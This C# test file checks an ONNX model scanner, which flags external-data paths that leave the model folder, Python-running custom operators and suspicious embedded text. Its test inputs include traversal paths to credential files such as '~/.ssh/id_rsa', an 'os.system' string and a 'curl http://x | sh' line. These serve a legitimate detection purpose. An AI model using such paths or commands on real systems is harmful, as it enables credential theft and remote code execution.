using Bulwark.Scanning;
using Bulwark.Scanning.Onnx;
using Bulwark.Storage;
using Bulwark.Testing;
using Bulwark.Tests.Fuzzing;
using Bulwark.Tests.Models.Onnx;
using static Bulwark.Tests.Models.Onnx.OnnxBuilder;

namespace Bulwark.Tests.Scanning.Onnx;

public sealed class OnnxScannerTests
{
    private static Task<ScanContext> ScanAsync(byte[] bytes) => ScanProbe.RunAsync(OnnxScanner.ScanAsync, bytes, "model.onnx");

    private static async Task ExpectAsync(Verdict verdict, byte[] bytes)
    {
        ScanContext context = await ScanAsync(bytes);
        Assert.True(context.Verdict == verdict, $"{context.Verdict} {context.Describe()}");
    }

    [Theory]
    [InlineData("/etc/passwd")]
    [InlineData("\\\\server\\share\\w")]
    [InlineData("..\\..\\w")]
    [InlineData("a/../../w")]
    [InlineData("..")]
    [InlineData("~/.ssh/id_rsa")]
    [InlineData("C:\\Windows\\win.ini")]
    [InlineData("c:w")]
    [InlineData("https://example.invalid/w")]
    [InlineData("file:w")]
    [InlineData("%2e%2e/%2e%2e/w")]
    [InlineData("w\0.bin")]
    [InlineData("a/.. /w")]
    public async Task External_data_that_leave_the_folder_are_malicious_wherever_the_tensor_stands(string location)
    {
        Proto tensor = External("w", ("location", location));
        await ExpectAsync(Verdict.Malicious, Model(Graph(tensor)));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "Constant", "c", Attribute("value", 5, tensor))));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "Constant", "c", Attribute("values", 10, tensor))));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "If", "c", Attribute("then_branch", 6, Graph(tensor)))));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "If", "c", Attribute("branches", 11, Graph(tensor)))));
        await ExpectAsync(Verdict.Malicious, Model(Graph().Message(15, new Proto().Message(1, tensor).Message(2, Tensor("", [1], 7, new byte[8])))));
        await ExpectAsync(Verdict.Malicious, Model(Graph(), m => m.Message(20, new Proto().Message(2, Graph(tensor)))));
        await ExpectAsync(Verdict.Malicious, Model(Graph(), m => m.Message(25, new Proto().Text(1, "f").Message(7, Node("Constant", "v", Attribute("value", 5, tensor))))));
        await ExpectAsync(Verdict.Malicious, Model(Graph(), m => m.Message(25, new Proto().Text(1, "f").Message(11, Attribute("default", 5, tensor)))));
    }

    [Theory]
    [InlineData("w.bin")]
    [InlineData("weights/w.bin")]
    [InlineData("./w.bin")]
    [InlineData("model..data")]
    [InlineData("100%.bin")]
    public async Task External_data_beside_the_model_are_benign(string location) =>
        await ExpectAsync(Verdict.Benign, Model(Graph(External("w", ("location", location), ("offset", "0"), ("length", "4"), ("checksum", "abc")))));

    [Fact]
    public async Task A_malicious_tensor_stays_so_in_a_malformed_model()
    {
        byte[] bytes = Model(Graph(External("w", ("location", "../../w"), ("offset", "-1"))));
        await ExpectAsync(Verdict.Malicious, bytes);
        await ExpectAsync(Verdict.Malicious, Model(Graph(External("w", ("location", "../../w"))))[..^6]);
    }

    [Theory]
    [InlineData("0", "4", Verdict.Benign)]
    [InlineData("96", "4", Verdict.Benign)]
    [InlineData("97", "4", Verdict.Malformed)]
    [InlineData("101", "0", Verdict.Malformed)]
    [InlineData("0", "9223372036854775807", Verdict.Malformed)]
    public async Task External_data_end_where_their_file_does(string offset, string length, Verdict verdict)
    {
        MemoryObjectStore store = new();
        store.Put("models", "team/data/w.bin", new byte[100]);
        byte[] model = Model(Graph(External("w", ("location", "./data/w.bin"), ("offset", offset), ("length", length))));
        ScanReport report = await ScanInAsync(store, "team/m.onnx", model);
        Assert.True(report.Verdict == verdict, $"{report.Verdict} {report.Worst}");
        // The same model where nothing stands beside it, and by itself.
        Assert.Equal(Verdict.Benign, (await ScanInAsync(store, "m.onnx", model)).Verdict);
        Assert.Equal(Verdict.Benign, (await ScanAsync(model)).Verdict);
    }

    [Fact]
    public async Task A_name_that_leaves_the_folder_is_not_even_looked_up_and_nothing_is_opened()
    {
        MemoryObjectStore inner = new();
        inner.Put("models", "w.bin", new byte[100]);
        WatchingStore store = new(inner);
        foreach (string location in new[] { "../w.bin", "/etc/passwd", "a/../../w.bin", "w.bin" })
            await ScanInAsync(inner, store, "team/m.onnx", Model(Graph(External("w", ("location", location)), External("v", ("location", location)))));
        Assert.Equal(["team/w.bin"], store.Found);
    }

    private static Task<ScanReport> ScanInAsync(MemoryObjectStore store, string name, byte[] model) => ScanInAsync(store, store, name, model);

    private static async Task<ScanReport> ScanInAsync(MemoryObjectStore store, IObjectStore seen, string name, byte[] model)
    {
        await using IObjectReader reader = await store.OpenReadAsync(store.Put("models", name, model), CancellationToken.None);
        return await new ModelScanner().ScanAsync(reader, seen, CancellationToken.None);
    }

    /// <summary>Remembers what was looked up, and lets nothing else be done.</summary>
    private sealed class WatchingStore(IObjectStore inner) : IObjectStore
    {
        public List<string> Found { get; } = [];

        public Task<ObjectRef?> FindAsync(string container, string name, CancellationToken cancellationToken)
        {
            Found.Add(name);
            return inner.FindAsync(container, name, cancellationToken);
        }

        public Task<IObjectReader> OpenReadAsync(ObjectRef reference, CancellationToken cancellationToken) => throw new InvalidOperationException("opened");

        public Task<IObjectWriter> CreateAsync(string container, string name, WriteCondition condition, CancellationToken cancellationToken) => throw new InvalidOperationException("written");

        public IAsyncEnumerable<ObjectRef> ListAsync(string container, string prefix, CancellationToken cancellationToken) => throw new InvalidOperationException("listed");

        public Task DeleteAsync(ObjectRef reference, CancellationToken cancellationToken) => throw new InvalidOperationException("deleted");
    }

    [Fact]
    public async Task Operators_are_judged_by_who_defines_them()
    {
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "PyOp", "y", null, "ai.onnx.contrib")));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "PythonOp", "y", null, "com.microsoft")));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "PythonOpGrad", "y", null, "com.microsoft")));
        await ExpectAsync(Verdict.Malicious, Model(Node(Graph(), "RunPython", "y", null, "my.ops")));
        await ExpectAsync(Verdict.Suspicious, Model(Node(Graph(), "Anything", "y", null, "my.ops")));
        await ExpectAsync(Verdict.Suspicious, Model(Node(Graph(), "BertTokenizer", "y", null, "ai.onnx.contrib")));
        await ExpectAsync(Verdict.Benign, Model(Node(Graph(), "Gelu", "y", null, "com.microsoft")));
        await ExpectAsync(Verdict.Benign, Model(Node(Graph(), "TreeEnsembleClassifier", "y", null, "ai.onnx.ml")));
        await ExpectAsync(Verdict.Benign, Model(Node(Graph(), "f", "y", null, "my.ops"), m => m.Message(25, new Proto().Text(1, "f").Text(10, "my.ops"))));
    }

    [Fact]
    public async Task Keys_and_text_that_do_not_belong_are_seen()
    {
        await ExpectAsync(Verdict.Suspicious, Model(Graph(External("w", ("location", "w"), ("colour", "red")))));
        await ExpectAsync(Verdict.Malicious, Model(Graph(External("w", ("location", "w"), ("__class__", "x")))));
        await ExpectAsync(Verdict.Suspicious, Model(Graph(), m => m.Message(14, new Proto().Text(1, "init").Text(2, "import os; os.system('x')"))));
        await ExpectAsync(Verdict.Suspicious, Model(Graph(), m => m.Text(6, "curl http://x | sh")));
        await ExpectAsync(Verdict.Benign, Model(Graph(), m => m.Text(6, "Exported by torch. See https://example.invalid/ and evaluate (eval mode).")));
        await ExpectAsync(Verdict.Malicious, [.. Model(Graph()), .. ZipBytes.Tiny]);
    }

    [DataFact]
    public async Task Damaged_models_stop_no_scan()
    {
        byte[] bytes = await File.ReadAllBytesAsync(SharedData.PathOf("models", "onnx", "digits_cnn.onnx"));
        await ParserFuzz.RunAsync(bytes, 4096, async r => await ScanProbe.RunAsync(OnnxScanner.ScanAsync, r, "m.onnx"));
    }
}
